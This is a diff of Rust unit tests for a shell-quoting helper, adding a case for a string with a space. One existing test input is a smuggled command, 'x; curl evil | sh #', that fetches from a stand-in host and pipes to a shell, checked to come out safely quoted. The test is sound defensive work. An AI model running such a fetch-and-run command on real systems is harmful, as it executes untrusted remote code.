@@ -177,6 +177,7 @@ mod tests {
         assert_eq!(text("my-account.1").shell_word("NAME"), "my-account.1");
         assert_eq!(text("x; curl evil | sh #").shell_word("NAME"), "'x; curl evil | sh #'");
         assert_eq!(text("it's $HOME").shell_word("NAME"), r"'it'\''s $HOME'");
+        assert_eq!(text("a b").shell_word("NAME"), "'a b'");
         for unfit in ["", "--all", "a\nb", "a\u{200b}", &"a".repeat(254)] {
             assert_eq!(text(unfit).shell_word("NAME"), "NAME");
         }
